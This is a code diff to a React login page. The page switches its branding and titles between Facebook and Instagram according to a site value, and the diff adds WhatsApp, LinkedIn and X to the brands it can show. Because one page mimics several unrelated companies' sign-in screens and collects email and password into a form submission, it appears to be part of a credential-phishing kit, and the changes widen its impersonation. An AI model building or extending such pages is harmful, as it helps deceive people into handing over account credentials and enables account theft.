@@ -3,6 +3,8 @@ import { useState } from 'react';
 import { useSite, useTexts } from '../site.jsx';
 import s from '../styles/login.css';
 
+const NAMES = { facebook: 'facebook', instagram: 'Instagram', whatsapp: 'WhatsApp', linkedin: 'LinkedIn', x: 'X' };
+
 export function LoginPage() {
   const { site, path } = useSite();
   const { login } = useTexts();
@@ -10,6 +12,7 @@ export function LoginPage() {
   const [pass, setPass] = useState('');
   const [failed, setFailed] = useState(false);
   const facebook = site === 'facebook';
+  const title = { facebook: login.title_fb, instagram: login.title_ig }[site] ?? login.log_in;
   const send = async event => {
     event.preventDefault();
     const body = new FormData();
@@ -23,9 +26,9 @@ export function LoginPage() {
   return (
     <div className={facebook ? s.page : s.white}>
       <main className={s.box}>
-        <div className={facebook ? s.brand : s.script}>{facebook ? 'facebook' : 'Instagram'}</div>
+        <div className={facebook ? s.brand : s.script}>{NAMES[site]}</div>
         <form id="login_form" className={s.form} onSubmit={send}>
-          <h1 className={s.title}>{facebook ? login.title_fb : login.title_ig}</h1>
+          <h1 className={s.title}>{title}</h1>
           <input
             className={s.input}
             name="email"
